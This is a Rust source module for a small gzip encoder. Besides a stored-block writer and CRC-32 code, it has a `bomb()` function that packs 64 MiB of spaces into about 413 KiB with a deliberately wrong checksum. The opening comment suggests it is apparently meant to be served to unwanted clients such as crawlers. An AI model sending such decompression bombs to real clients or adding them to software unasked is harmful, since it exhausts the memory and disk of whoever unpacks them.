//! Just enough gzip to send what nobody asked for.

/// A member's head: deflate, no name, no time.
const HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
/// The most bytes of a stored block.
const BLOCK: usize = 65_535;
/// Bytes after which eight copies of 13 bits each begin on the same bit again.
const PERIOD: usize = 13;
/// So often eight copies of 258 bytes: 64 MiB.
const PERIODS: usize = 32_514;

/// Bytes as gzip, not a bit smaller.
pub(super) fn stored(bytes: &[u8]) -> Vec<u8> {
    let mut out = HEAD.to_vec();
    let blocks = bytes.len().div_ceil(BLOCK).max(1);
    for index in 0..blocks {
        let block = &bytes[index * BLOCK..bytes.len().min((index + 1) * BLOCK)];
        let len = u16::try_from(block.len()).unwrap_or(u16::MAX);
        out.push(u8::from(index + 1 == blocks));
        out.extend_from_slice(&len.to_le_bytes());
        out.extend_from_slice(&(!len).to_le_bytes());
        out.extend_from_slice(block);
    }
    out.extend_from_slice(&crc32(bytes).to_le_bytes());
    out.extend_from_slice(&u32::try_from(bytes.len()).unwrap_or(u32::MAX).to_le_bytes());
    out
}

/// 64 MiB of blanks in 413 KiB.
pub(super) fn bomb() -> Vec<u8> {
    // A stored block of one blank ends on a byte; then nothing but copies of it, in one last block of fixed codes.
    let mut out = [&HEAD[..], &[0, 1, 0, 0xfe, 0xff, b' ']].concat();
    let mut bits = Bits::default();
    bits.push(0b011, 3);
    (0..2 * 8).for_each(|_| bits.copy());
    let period = bits.bytes.split_off(PERIOD);
    out.append(&mut bits.bytes);
    (1..PERIODS).for_each(|_| out.extend_from_slice(&period));
    // The end of the block is seven zeros. The checksum is wrong: who unpacks so far to see it has lost already.
    bits.push(0, 7 + 7);
    out.extend_from_slice(&bits.bytes);
    out.extend_from_slice(&[0; 8]);
    out
}

/// Bits in deflate's order: the lowest first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    held: u32,
    count: u32,
}

impl Bits {
    fn push(&mut self, value: u32, width: u32) {
        self.held |= value << self.count;
        self.count += width;
        while self.count >= 8 {
            self.bytes.push((self.held & 0xff) as u8);
            self.held >>= 8;
            self.count -= 8;
        }
    }

    /// 258 bytes from one byte back: length code 285, which is `11000101` from its highest bit, then distance code 0.
    fn copy(&mut self) {
        self.push(0b1010_0011, 8);
        self.push(0, 5);
    }
}

fn crc32(bytes: &[u8]) -> u32 {
    let step = |crc: u32, byte: &u8| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| if crc & 1 == 1 { crc >> 1 ^ 0xedb8_8320 } else { crc >> 1 })
    };
    !bytes.iter().fold(u32::MAX, step)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_checksum() {
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
    }

    #[test]
    fn a_bomb_is_small() {
        let packed = bomb();
        assert!(packed.len() < 450_000, "{}", packed.len());
    }
}
